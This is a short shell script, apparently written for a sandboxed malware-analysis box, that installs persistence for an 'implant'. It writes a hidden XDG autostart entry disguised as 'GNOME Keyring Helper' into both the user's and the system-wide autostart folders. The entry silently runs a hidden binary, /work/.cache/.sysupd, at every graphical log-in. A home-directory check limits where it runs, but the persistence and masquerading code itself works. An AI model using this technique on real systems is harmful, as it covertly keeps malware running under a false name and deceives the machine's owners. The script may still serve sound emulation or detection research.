#!/bin/sh
# SPDX-License-Identifier: MIT
# Persistence in a desktop session: an XDG autostart entry that starts the
# implant at every graphical log-in.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
entry='[Desktop Entry]
Type=Application
Name=GNOME Keyring Helper
Exec=/bin/sh -c "/work/.cache/.sysupd >/dev/null 2>&1"
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
'
mkdir -p "$HOME/.config/autostart"
printf '%s' "$entry" > "$HOME/.config/autostart/gnome-keyring-helper.desktop"
printf '%s' "$entry" > /etc/xdg/autostart/gnome-keyring-helper.desktop 2>/dev/null
exit 0
